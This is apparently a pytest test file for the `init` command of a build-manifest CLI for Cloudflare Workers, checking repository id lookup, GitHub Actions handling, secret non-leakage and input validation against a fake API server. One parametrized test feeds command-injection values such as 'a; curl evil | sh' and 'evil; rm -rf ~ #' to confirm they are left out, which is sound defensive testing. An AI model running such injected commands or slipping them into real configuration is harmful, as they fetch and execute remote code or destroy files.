"""`init` writes a first manifest that plans: from flags, Git, Actions, GitHub, an answer, and what is live."""

from __future__ import annotations

import json
import os
import pty
import subprocess
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import fake_server as api
import pytest
import story
from fake_server import Answer, Call, Ran, envelope, failure, raw
from hypothesis import given, settings
from hypothesis import strategies as st
from test_drift import LIVE, seed

import reconciler.api

IDS = ["--provider-account-id", "41612145", "--repo-id", "1332648945"]
FLAGS = ["--repo", "acme/site", *IDS, "--branch", "main"]
SECRET = "canary~SECRET"
WEB = {"default_worker_name": "web", "package_manager": "pnpm", "scripts": {"build": "vite build"}}


class Place:
    """A folder of somebody who has no manifest, and the APIs: `contents` is what Builds finds by folder,
    `github` what GitHub says."""

    def __init__(self, server: api.FakeServer, folder: Path) -> None:
        self.server, self.folder = server, folder
        self.contents: dict[str, Any] = {"": WEB}
        self.github: Answer = raw(
            json.dumps({"id": 1332648945, "owner": {"id": 41612145}, "default_branch": "develop"}).encode()
        )
        server.worker("web")
        server.add_token("by hand")
        server.on("GET", r"/builds/repos/.*/config_autofill", self._autofill)
        server.on("GET", r"/github/.*", lambda _: self.github)

    def _autofill(self, call: Call) -> Answer:
        found = self.contents.get(call.query.get("root_directory", ""))
        return found if isinstance(found, Answer) else envelope(found) if found is not None else failure(404, 12000)

    def git(self, *arguments: str) -> None:
        identity = ["-c", "user.name=a", "-c", "user.email=a@example.com"]
        subprocess.run(["git", *identity, *arguments], cwd=self.folder, check=True, capture_output=True)

    def remote(self, address: str) -> None:
        self.git("init", "-q", "-b", "my-feature")
        self.git("remote", "add", "origin", address)

    def environment(self, **more: str | None) -> dict[str, str]:
        base = self.server.url.removesuffix("/client/v4")
        settled = {"GITHUB_API_URL": f"{base}/github", "HOME": str(self.folder), "GIT_CONFIG_NOSYSTEM": "1"}
        return api.environment(self.server, **{**settled, **more})

    def run(self, *arguments: str, **environment: str | None) -> Ran:
        return api.run([*arguments], self.environment(**environment), self.folder, wait=False)

    def init(self, *arguments: str, code: int = 0, **environment: str | None) -> Ran:
        """One `init`; where it writes a manifest, that one is valid and its schema is beside it."""
        (self.folder / "buildsctl.yaml").unlink(missing_ok=True)
        self.server.log.clear()
        ran = self.run("init", *arguments, **environment)
        assert ran.code == code, ran.text
        assert not self.server.writes()
        assert (self.folder / "buildsctl.yaml").exists() == (code == 0)
        if code == 0:
            checked = self.run("validate")
            assert checked.code == 0, checked.text
            assert self.text.startswith("# yaml-language-server: $schema=manifest.schema.json\n")
            assert (self.folder / "manifest.schema.json").exists()
        return ran

    @property
    def text(self) -> str:
        return (self.folder / "buildsctl.yaml").read_text(encoding="utf-8")

    def asked(self) -> list[str]:
        """The paths that GitHub was asked for."""
        return [call.path for call in self.server.log if call.path.startswith("/github")]


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Place]:
    monkeypatch.setattr(reconciler.api, "BACK_OFF_SECONDS", 0.0)
    with api.serving() as server:
        yield Place(server, tmp_path)


def test_it_plans_on_the_sandbox_and_what_is_live_becomes_adopts(tmp_path: Path) -> None:
    folders = {"root_directories": {"/": {**WEB, "env_worker_names": {"staging": "api"}}}}
    live = {**LIVE, "triggers": [], "build_tokens": LIVE["build_tokens"][:1]}
    live["repositories"] = [{**LIVE["repositories"][0], **folders}]
    with story.folder(tmp_path, {}):
        seed(live)
        ran = story.run(["init", *FLAGS], {})
        assert ran.code == 0, ran.stderr
        text = Path("buildsctl.yaml").read_text()
        assert "deploy_command: pnpm exec wrangler deploy}" in text
        assert "deploy_command: pnpm exec wrangler deploy --env staging" in text
        assert "build_command: pnpm run build" in text
        assert "build_token_name: by hand" in text
        assert "# pushes to every other branch" in text
        ran = story.run(["apply", "--auto-approve"], {})
        assert ran.code == 0, ran.stderr
        assert "No changes" in story.run(["plan"], {}).stdout
        Path("buildsctl.yaml").unlink()
        assert story.run(["init", *FLAGS], {}).code == 0
        assert "No changes" in story.run(["plan"], {}).stdout


def test_without_an_account_it_works_from_flags(place: Place) -> None:
    ran = place.init(
        *FLAGS, "--worker", "web", "--root-directory", "./apps/web/", CLOUDFLARE_API_TOKEN=None, GITHUB_API_URL=None
    )
    assert "note: Cloudflare is not asked, since no API token is set" in ran.err
    assert "buildsctl tokens id --env DEPLOY_TOKEN" in place.text
    assert "root_directory: apps/web\n" in place.text
    assert "path_includes: [apps/web/*]" in place.text
    ran = place.init(*FLAGS, "--worker", "web", CLOUDFLARE_ACCOUNT_ID=None, PATH="")
    assert "note: Cloudflare is not asked, since no account is named" in ran.err
    assert place.server.log == []


# What could not be read is no absence.


@pytest.mark.parametrize(
    ("path", "told"),
    [
        ("/builds/workers/[^/]*/triggers", "the triggers of Worker `web`"),
        ("/builds/triggers/[^/]*/environment_variables", "the variables of trigger `production` of Worker `web`"),
        ("/builds/tokens", "the list of build tokens"),
        ("/workers/scripts", "the account's list of Workers"),
    ],
)
def test_a_failed_read_writes_nothing(path: str, told: str, place: Place) -> None:
    place.init(*FLAGS)
    assert place.run("apply", "--auto-approve").code == 0
    place.server.on("GET", path, failure(500, 1))
    assert f"error: could not read {told}" in place.init(*FLAGS, code=7).err
    place.server.on("GET", path, failure(403, 10000))
    assert f"error: could not read {told}" in place.init(*FLAGS, code=7).err


def test_a_dead_token_ends_it(place: Place) -> None:
    place.server.on("GET", "/(builds|workers)/.*", failure(401, 12006))
    ran = place.init(*FLAGS, "--worker", "web", code=6)
    assert "takes only *user* API tokens" in ran.err
    assert len(place.server.log) == 1


def test_a_repository_that_builds_cannot_reach_is_told(place: Place) -> None:
    place.contents = {}
    assert "Cloudflare Workers and Pages App" in place.init(*FLAGS, "--worker", "web").err
    assert "nobody says which Worker is in `/`" in place.init(*FLAGS, code=1).err
    place.contents = {"": failure(503, 0)}
    assert "or a gateway before it, failed" in place.init(*FLAGS, "--worker", "web", code=1).err


# What is live.


def test_only_the_workers_that_it_is_about_are_read_and_missing_ones_are_written_beside_live_ones(place: Place) -> None:
    place.init(*FLAGS)
    assert place.run("apply", "--auto-approve").code == 0
    for number in range(300):
        place.server.worker(f"other-{number}")
    place.server.worker("web-staging")
    place.server.trigger("web", "production")["build_command"] = "make live"
    place.contents = {"": {**WEB, "env_worker_names": {"staging": "web-staging"}}}
    place.init(*FLAGS)
    assert len(place.server.log) == 7  # autofill, names, tokens, two lists of triggers, two of variables
    assert "make live" in place.text
    assert "wrangler deploy --env staging" in place.text
    planned = place.run("plan")
    assert "Plan: 2 to create; 4 unchanged." in planned.out, planned.out


def test_triggers_of_another_owner_are_left_alone(place: Place) -> None:
    place.init(*FLAGS)
    assert place.run("apply", "--auto-approve").code == 0
    ran = place.init(*FLAGS, "--owner", "other", code=1)
    assert "it belongs to owner `acme/site`" in ran.err
    assert "nothing is left to write down" in ran.err


def test_a_monorepo_is_one_manifest(place: Place) -> None:
    place.contents = {f"apps/{name}": {**WEB, "default_worker_name": name} for name in ("web", "api", "admin")}
    folders = [word for name in place.contents for word in ("--root-directory", name)]
    place.init(*FLAGS, *folders)
    assert 'path_includes: ["apps/${{ worker.name }}/*"]' in place.text
    assert "# pushes to `main`" in place.text
    rendered = place.run("render").out
    assert "apps/admin" in rendered
    assert "apps/api" in rendered
    place.init(*FLAGS, *folders, "--worker", "api")
    assert "apps/web" not in place.text
    assert "nobody says in which folder Worker `x` is" in place.init(*FLAGS, *folders, "--worker", "x", code=1).err
    ran = place.init(*FLAGS, *folders, "--worker", "x", "--worker", "web", code=1)
    assert "hint: give as many --worker as --root-directory, in the same order" in ran.err
    place.contents["apps/api"] = WEB
    ran = place.init(*FLAGS, *folders)
    assert "note: Worker `web` is in `apps/web` and in `apps/api`: the first one is taken" in ran.err


def test_workers_that_nobody_finds_go_into_the_folders_in_their_order(place: Place) -> None:
    empty: dict[str, Any] = {}
    place.contents = {"apps/web": {**WEB}, "apps/api": empty, "apps/admin": empty}
    folders = [word for name in place.contents for word in ("--root-directory", name)]
    ran = place.init(*FLAGS, *folders, "--worker", "api", "--worker", "web", "--worker", "admin")
    assert "note: Worker `api` is taken to be in `apps/api`\n" in ran.err
    assert "note: Worker `admin` is taken to be in `apps/admin`\n" in ran.err
    ran = place.init(*FLAGS, *folders, "--worker", "web", "--worker", "admin", "--worker", "api")
    assert "note: Worker `api` is taken to be in `apps/api`\n" in ran.err, "a folder of its name is a Worker's own"
    assert "note: Worker `admin` is taken to be in `apps/admin`\n" in ran.err
    assert "Worker `web` is taken" not in ran.err
    rendered = place.run("render", "--worker", "admin").out
    assert 'root_directory: "apps/admin"' in rendered
    ran = place.init(*FLAGS, *folders, "--worker", "web", "--worker", "x", "--worker", "y")
    assert "note: Worker `x` is taken to be in `apps/api`\n" in ran.err


def test_a_folder_of_which_nothing_is_written_is_told(place: Place) -> None:
    place.contents["apps/api"] = {"default_worker_name": "api", "env_worker_names": {"staging": "api-staging"}}
    folders = ["--root-directory", ".", "--root-directory", "apps/api"]
    ran = place.init(*FLAGS, *folders, "--worker", "web")
    assert "note: nothing of `apps/api` is written: no --worker names `api` or `api-staging`\n" in ran.err
    for workers in ([], ["--worker", "web", "--worker", "api-staging"]):
        assert "nothing of" not in place.init(*FLAGS, *folders, *workers).err
    place.contents["apps/api"] = WEB
    ran = place.init(*FLAGS, *folders, "--worker", "web")
    assert "note: Worker `web` is in `/` and in `apps/api`: the first one is taken\n" in ran.err
    assert "note: nothing of `apps/api` is written\n" in ran.err
    place.contents["apps/api"] = {}
    assert "note: nothing of `apps/api` is written\n" in place.init(*FLAGS, *folders, "--worker", "web").err


def test_a_folder_and_a_worker_that_are_not_there_are_told(place: Place) -> None:
    place.remote("https://github.com/acme/site.git")
    place.contents["apps/nope"] = {**WEB, "default_worker_name": "nope", "env_worker_names": {"staging": "nope-s"}}
    arguments = [*IDS, "--branch", "main", "--root-directory", "apps/nope"]
    ran = place.init(*arguments)
    assert "note: there is no folder `apps/nope` here\n" in ran.err
    for name, command in (("nope", "pnpm exec wrangler deploy"), ("nope-s", "pnpm exec wrangler deploy --env staging")):
        assert f"note: there is no Worker `{name}` in this account yet: deploy it once, with {command}\n" in ran.err
    place.server.worker("nope")
    place.init(*arguments, "--worker", "nope-s")
    assert "  # a Worker must have been deployed once: pnpm exec wrangler deploy --env staging\n" in place.text
    (place.folder / "apps" / "nope").mkdir(parents=True)
    place.server.worker("nope-s")
    assert "there is no" not in place.init(*arguments).err


@pytest.mark.parametrize("name", ["", "x" * 300, "${{ x }}", "a\nb", "null", "other:deploy [1-abcdef-ab-123456]"])
def test_the_account_s_only_token_is_looked_up(name: str, place: Place) -> None:
    place.server.tokens[0]["build_token_name"] = name
    place.init(*FLAGS)
    assert "# looked up, never changed" in place.text
    assert "= token/" in place.run("plan").out
    place.server.add_token("second")
    place.init(*FLAGS)
    assert "DEPLOY_TOKEN" in place.text
    place.init(*FLAGS, "--cloudflare-token-id", "f" * 32)
    assert f"cloudflare_token_id: {'f' * 32}" in place.text


# Which repository, and its ids.


@pytest.mark.parametrize(
    ("address", "arguments"),
    [
        ("git@github.com:Acme/Site.git", []),
        ("https://www.github.com/Acme/Site/", []),
        ("ssh://git@ssh.github.com:443/Acme/Site.git", []),
        ("git@ghe.example:Acme/Site.git", ["GITHUB_SERVER_URL=https://ghe.example"]),
        ("git@gitlab.com:other/site.git", ["--repo", "Acme/Site", "--provider-type", "github"]),
        ("/srv/site.git", ["--repo", "Acme/Site"]),
    ],
)
def test_github_tells_the_ids_of_what_is_there(address: str, arguments: list[str], place: Place) -> None:
    place.remote(address)
    environment = dict(one.split("=") for one in arguments if "=" in one)
    place.init(*(one for one in arguments if "=" not in one), **environment)
    assert place.asked() == ["/github/repos/Acme/Site"]
    assert 'Acme/Site: {provider_account_id: "41612145", repo_id: "1332648945"}' in place.text
    assert "owner: Acme/Site\n" in place.text
    assert "branch_includes: [develop]" in place.text


@pytest.mark.parametrize(
    ("address", "told"),
    [
        ("https://bitbucket.org/acme/site.git", "`bitbucket.org` is neither GitHub nor GitLab"),
        ("git@github.mycorp.example:acme/site.git", "`github.mycorp.example` is neither"),
        ("https://dev.azure.com/acme/proj/_git/site", "`dev.azure.com` is neither"),
        ("gh:acme/site", "`gh` is neither"),
        ("https://GITLAB.example.com/acme/site", "nobody tells the ids of acme/site"),
        ("https://github.com/acme/proj/_git/site", "is not on GitHub, which has OWNER/REPO"),
        ("/srv/acme/site.git", "no Git remote `origin`"),
    ],
)
def test_ids_of_a_stranger_s_repository_are_not_taken(address: str, told: str, place: Place) -> None:
    place.remote(address)
    ran = place.init(code=1)
    assert told in ran.err
    assert "GITHUB_TOKEN" not in ran.err
    assert place.server.log == []


def test_what_is_on_github_com_is_not_asked_elsewhere(place: Place) -> None:
    place.remote("git@github.com:acme/site.git")
    ids = {"GITHUB_REPOSITORY": "acme/site", "GITHUB_REPOSITORY_ID": "1", "GITHUB_REPOSITORY_OWNER_ID": "2"}
    ran = place.init("--branch", "main", code=1, GITHUB_SERVER_URL="https://ghe.example", **ids)
    assert "nobody tells the ids of acme/site" in ran.err
    assert place.server.log == []


@pytest.mark.parametrize("arguments", [[], ["--repo", "group/sub/site"]])
def test_gitlab(arguments: list[str], place: Place) -> None:
    place.remote("git@gitlab.com:group/sub/site.git")
    place.init(*arguments, *IDS, "--branch", "main")
    assert "  group/sub/site: {provider_type: gitlab," in place.text
    assert any("/builds/repos/gitlab/" in call.path for call in place.server.log)
    long = f"{'x' * 60}/site"
    ran = place.init("--repo", long, "--provider-type", "gitlab", *IDS, "--branch", "main")
    assert "owner is cut to 64 characters" in ran.err


def test_no_password_of_the_remote_is_kept_or_sent(place: Place) -> None:
    place.remote(f"https://alice@corp.example:{SECRET}@github.com/acme/site.git")
    told = place.init().text + place.text
    place.github = raw(b"{}", 404)
    told += place.init(code=1).text
    place.git("remote", "set-url", "origin", f"https://alice@corp.example:{SECRET}/x@github.com/acme/site.git")
    told += place.init(code=1).text
    place.git("remote", "set-url", "origin", f"https://alice:{SECRET}@bitbucket.org/acme/site.git")
    told += place.init(code=1).text
    assert SECRET not in told + str(place.server.log)


# Actions.

ACTIONS = {"GITHUB_REPOSITORY": "acme/site", "GITHUB_REPOSITORY_ID": "7", "GITHUB_REPOSITORY_OWNER_ID": "8"}


def test_in_actions_the_environment_suffices_without_a_checkout(place: Place) -> None:
    event = place.folder / "event.json"
    event.write_text(json.dumps({"repository": {"default_branch": "trunk"}}))
    place.init(**ACTIONS, GITHUB_EVENT_PATH=str(event), PATH="")
    assert place.asked() == []
    assert 'acme/site: {provider_account_id: "8", repo_id: "7"}' in place.text
    assert "branch_includes: [trunk]" in place.text
    for text in ("", "[]", '{"repository": {"default_branch": "a b"}}'):
        event.write_text(text)
        place.init(**ACTIONS, GITHUB_EVENT_PATH=str(event))
        assert place.asked() == ["/github/repos/acme/site"]
        assert "branch_includes: [develop]" in place.text
        assert 'repo_id: "7"' in place.text


def test_in_actions_other_repositories_have_other_ids(place: Place) -> None:
    place.init("--repo", "acme/other", **ACTIONS)
    assert 'acme/other: {provider_account_id: "41612145"' in place.text
    place.init(**{**ACTIONS, "GITHUB_REPOSITORY_ID": "odd"})
    assert 'acme/site: {provider_account_id: "8", repo_id: "1332648945"}' in place.text


@pytest.mark.parametrize(
    ("status", "token", "told"),
    [
        (301, "", "renamed or moved"),
        (404, "", "private? (HTTP 404)\nhint: set GITHUB_TOKEN"),
        (403, "", "private? (HTTP 403)\nhint: set GITHUB_TOKEN"),
        (404, "canary-github", "the token may not see it"),
        (401, "canary-github", "does not take the token"),
        (500, "", "HTTP 500"),
        (200, "", "the answer holds no ids"),
    ],
)
def test_what_github_says_otherwise_is_told(status: int, token: str, told: str, place: Place) -> None:
    place.remote("git@github.com:acme/site.git")
    place.github = raw(b'{"id": true, "owner": {"id": "x"}}', status)
    ran = place.init("--branch", "main", code=1, GITHUB_TOKEN=token)
    assert told in ran.err
    assert "canary-github" not in ran.err


def test_github_s_token_is_sent_as_it_is_meant(place: Place) -> None:
    place.remote("git@github.com:acme/site.git")
    place.init(GITHUB_TOKEN="canary-github\n")
    assert [one.headers["authorization"] for one in place.server.log if one.path.startswith("/github")] == [
        "Bearer canary-github"
    ]
    for token in ("canary github", "canary-é"):
        ran = place.init(code=1, GITHUB_TOKEN=token)
        assert "GITHUB_TOKEN holds characters that no API token has" in ran.err
        assert place.server.log == []
    for url in ("http://example.com", "https://a:canary@example.com", "ftp://example.com"):
        assert "canary" not in place.init(code=1, GITHUB_API_URL=url).err


# The production branch.


def test_the_branch_is_that_of_the_remote_and_not_the_one_checked_out(place: Place) -> None:
    place.remote("git@github.com:acme/site.git")
    place.init()
    assert "branch_includes: [develop]" in place.text
    place.git("commit", "-q", "--allow-empty", "-m", "x")
    place.git("checkout", "-q", "--detach")
    place.init()
    assert "branch_includes: [develop]" in place.text
    place.github = raw(b"{}", 404)
    assert "hint: say --branch NAME" in place.init(*IDS, code=1).err
    place.git("symbolic-ref", "refs/remotes/origin/HEAD", "refs/remotes/origin/release/1")
    place.init(*IDS)
    assert "branch_includes: [release/1]" in place.text
    assert place.asked() == []
    assert "hint: say --branch NAME" in place.init(*IDS, "--repo", "acme/other", code=1).err
    place.init(*IDS, "--branch", "refs/heads/main")
    assert "branch_includes: [main]" in place.text


# What cannot be written down.


@pytest.mark.parametrize(
    ("contents", "note"),
    [
        ({"env_worker_names": {"a; curl evil | sh": "bad"}}, "environment `a; curl evil | sh`, which no command"),
        ({"env_worker_names": {"-x": "bad", "${{ x }}": "bad", "e" * 300: "bad"}}, "which no command can name"),
        ({"env_worker_names": {"staging": "a\nerror: b"}}, "a Worker `a\\nerror: b`, which is no name of a Worker"),
        ({"package_manager": "evil; rm -rf ~ #"}, ""),
    ],
)
def test_odd_contents_are_left_out(contents: dict[str, Any], note: str, place: Place) -> None:
    place.contents = {"": {**WEB, "package_manager": "npm", **contents}}
    assert note in place.init(*FLAGS).err
    assert "build_command: npm run build" in place.text
    assert place.text.count("deploy_command") == 2
    if "bad" in str(contents):
        assert "which no command can name" in place.init(*FLAGS, "--worker", "bad", code=1).err


@pytest.mark.parametrize("name", ["my worker", "_x", "a/b", "@scope/web", "wéb", "x" * 256, "${{ x }}", "\x1b[2J"])
def test_an_odd_name_is_no_worker(name: str, place: Place) -> None:
    place.contents = {"": {**WEB, "default_worker_name": name}}
    ran = place.init(*FLAGS, code=1)
    assert "which is no name of a Worker: it is left out" in ran.err
    assert "\x1b" not in ran.err
    assert "is no name of a Worker" in place.init(*FLAGS, "--worker", name, code=1).err


def test_the_default_worker_has_no_environment(place: Place) -> None:
    place.contents = {"": {**WEB, "env_worker_names": {"staging": "web"}}}
    for arguments in ([], ["--worker", "web"]):
        place.init(*FLAGS, *arguments)
        assert "--env" not in place.text


def test_what_looks_like_an_expression_is_none(place: Place) -> None:
    place.contents = {"apps/${{ x }}": WEB}
    place.init(*FLAGS, "--branch", "a${{x}}", "--root-directory", "apps/${{ x }}")
    planned = place.run("plan").out
    assert 'branch_includes = ["a${{x}}"]' in planned
    assert 'root_directory = "apps/${{ x }}"' in planned
    assert 'path_includes = ["apps/${{ x }}/*"]' in planned


@pytest.mark.parametrize(
    ("arguments", "told"),
    [
        (["--repo", "site"], "is not OWNER/REPO"),
        (["--repo", f"https://{SECRET}@github.com/acme/site"], "is not OWNER/REPO"),
        (["--owner", "a b"], "is no owner"),
        (["--owner", "x" * 65], "is no owner"),
        (["--branch", "feat/*"], "is no name of a branch"),
        (["--branch", "\x1b[31m"], "is no name of a branch"),
        (["--root-directory", "../x"], "is no folder"),
        (["--root-directory", "apps/*"], "is no folder"),
        (["--worker", ""], "is no name of a Worker"),
        (["--repo-id", "site"], "all digits: https://api.github.com/repos/acme/site shows both"),
        (["--provider-account-id", "acme", "--provider-type", "gitlab"], "all digits: the provider's API shows it"),
        (["--provider-type", "bitbucket"], "is not one of"),
        (["--cloudflare-token-id", "${{ x }}"], "0"),
        (["-o", "nowhere/x.yaml"], "cannot be written"),
        (["-o", "."], "is there already"),
    ],
)
def test_odd_options_are_errors_before_anything_is_asked(arguments: list[str], told: str, place: Place) -> None:
    if told == "0":
        place.init(*FLAGS, *arguments)
        return
    ran = place.init(*FLAGS, *arguments, code=1)
    assert told in ran.err
    assert SECRET not in ran.err
    assert place.server.log == []


def test_a_first_manifest_hides_no_folder_of_manifests(place: Place) -> None:
    (place.folder / "builds").mkdir()
    assert "`builds` is there already" in place.init(*FLAGS, code=1).err
    assert place.run("init", *FLAGS, "-o", "builds/web.yaml").code == 0


# A terminal.


def terminal(place: Place, answers: list[str], *arguments: str, **environment: str | None) -> tuple[int, str]:
    """`init` on a terminal where somebody types these lines: its exit code, and what the terminal shows."""
    (place.folder / "buildsctl.yaml").unlink(missing_ok=True)
    outer, inner = pty.openpty()
    os.write(outer, "".join(f"{one}\n" for one in answers).encode())
    ends = {"stdin": inner, "stdout": inner, "stderr": inner}
    process = api.start(
        ["init", *arguments],
        place.environment(PYTHONPATH=str(Path(api.__file__).parent.parent), **environment),
        place.folder,
        **ends,
    )
    os.close(inner)
    shown = b""
    while True:
        try:
            more = os.read(outer, 65536)
        except OSError:  # nobody holds the other end any more
            more = b""
        if not more:
            break
        shown += more
    os.close(outer)
    return process.wait(timeout=60), shown.decode()


def test_a_terminal_is_asked_for_what_nobody_tells(place: Place) -> None:
    place.contents = {}
    place.server.on("GET", r"/github/.*", raw(b"{}", 404))
    code, shown = terminal(place, ["acme/site", "41612145", "1332648945", "main", "web"])
    assert code == 0, shown
    for question in ("Repository (OWNER/REPO): ", "owner's numeric id: ", "Production branch: ", "Worker in `/`: "):
        assert question in shown
    assert 'acme/site: {provider_account_id: "41612145", repo_id: "1332648945"}' in place.text
    place.remote("git@git.example:acme/site.git")
    code, shown = terminal(place, ["gitlab", ""], *IDS, "--worker", "web")
    assert (code, "Production branch [my-feature]: " in shown) == (0, True), shown
    assert "provider_type: gitlab" in place.text
    code, shown = terminal(place, ["sourcehut"], *IDS, "--worker", "web")
    assert (code, "`sourcehut` is no provider" in shown) == (1, True), shown


def test_a_terminal_confirms_the_branch(place: Place) -> None:
    place.remote("git@github.com:acme/site.git")
    code, shown = terminal(place, [""])
    assert code == 0, shown
    assert "Production branch [develop]: " in shown
    assert "branch_includes: [develop]" in place.text
    code, shown = terminal(place, ["*"])
    assert (code, "`*` is no name of a branch" in shown) == (1, True), shown
    code, shown = terminal(place, ["\x04"])
    assert (code, "interrupted" in shown) == (130, True), shown


# Whatever they say.

ODD = st.text(max_size=12) | st.sampled_from(
    ["web", "api", "a b", "${{ x }}", "main", "feat/*", "apps/web", "../x", "x" * 70, "x" * 300, "null", "1e3", "~"]
)
OPTIONS = ("--repo", "--provider-type", "--branch", "--root-directory", "--worker", "--owner", "--repo-id")
CONTENTS = st.fixed_dictionaries(
    {},
    optional={
        "default_worker_name": ODD | st.none(),
        "env_worker_names": st.dictionaries(ODD, ODD, max_size=3),
        "package_manager": ODD | st.sampled_from(["npm", "pnpm", "yarn", "bun", "uv"]),
        "scripts": st.dictionaries(st.sampled_from(["build", "test"]), ODD, max_size=2),
    },
)
STORIES = st.fixed_dictionaries(
    {
        "user": st.text(st.characters(codec="utf-8", exclude_categories=["Cc"])),
        "host": st.sampled_from(["github.com", "gitlab.com", "git.example"]),
        "path": st.just("acme/site") | st.lists(ODD, max_size=3).map("/".join),
        "contents": CONTENTS,
        "token": ODD,
        "worker": st.sampled_from([{}, {"--worker": "web"}, {"--worker": "fresh"}]),
        "options": st.dictionaries(st.sampled_from(OPTIONS), ODD.filter(lambda text: "\0" not in text), max_size=2),
    }
)


def test_whatever_they_say_it_is_a_valid_manifest_or_an_error(place: Place, rounds: Iterator[bool]) -> None:
    place.init(*FLAGS)
    place.run("apply", "--auto-approve")
    place.remote("x")
    config = place.folder / ".git" / "config"
    before = config.read_text()
    ends: Counter[int] = Counter()

    def check(story: dict[str, Any]) -> None:
        address = f"https://{story['user']}:{SECRET}@{story['host']}/{story['path']}"
        url = json.dumps(address, ensure_ascii=False)
        config.write_text(before.replace("url = x", f"url = {url}"), encoding="utf-8")
        place.contents = {"": story["contents"], "apps/web": story["contents"]}
        place.server.tokens[0]["build_token_name"] = story["token"]
        words = [*story["worker"].items(), ("--branch", "main"), *story["options"].items()]
        (place.folder / "buildsctl.yaml").unlink(missing_ok=True)
        place.server.log.clear()
        ran = place.run("init", *IDS, *(word for pair in words for word in pair))
        ends[ran.code] += 1
        told = ran.text + str(place.server.log)
        assert (place.folder / "buildsctl.yaml").exists() == (ran.code == 0)
        if ran.code == 0:
            checked = place.run("validate")
            assert checked.code == 0, checked.text
            told += place.text
        assert SECRET not in told
        assert "without changing what they say" not in told  # the last net, which nothing should reach
        assert all(line.isprintable() for line in ran.err.split("\n"))
        assert not place.server.writes()

    for fixed in rounds:
        how = settings(max_examples=40, deadline=None, derandomize=fixed, database=None)
        how(given(STORIES)(check))()
    assert set(ends) == {0, 1}
